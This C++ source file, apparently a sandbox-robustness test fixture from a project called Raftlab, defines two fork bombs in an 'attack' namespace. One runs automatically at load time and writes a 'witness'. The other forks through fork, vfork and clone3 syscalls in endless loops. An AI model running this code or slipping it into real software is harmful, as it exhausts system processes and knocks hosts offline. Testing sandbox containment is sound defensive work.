// Part of Raftlab, under the MIT License (see LICENSE).

namespace attack {
[[maybe_unused]] const AtLoad g_attack([] {

  while (fork() >= 0) WriteWitness();
});
}  // namespace attack

namespace attack {
inline void Boot([[maybe_unused]] int me) {

  for (int i = 0; i < 1000; ++i) {
    if (syscall(SYS_fork) == 0 || vfork() == 0 || syscall(SYS_clone3, nullptr, 0) == 0) {
      while (true) fork();
    }
  }
}
}  // namespace attack
#define ATTACK_BOOT(me) attack::Boot(me)
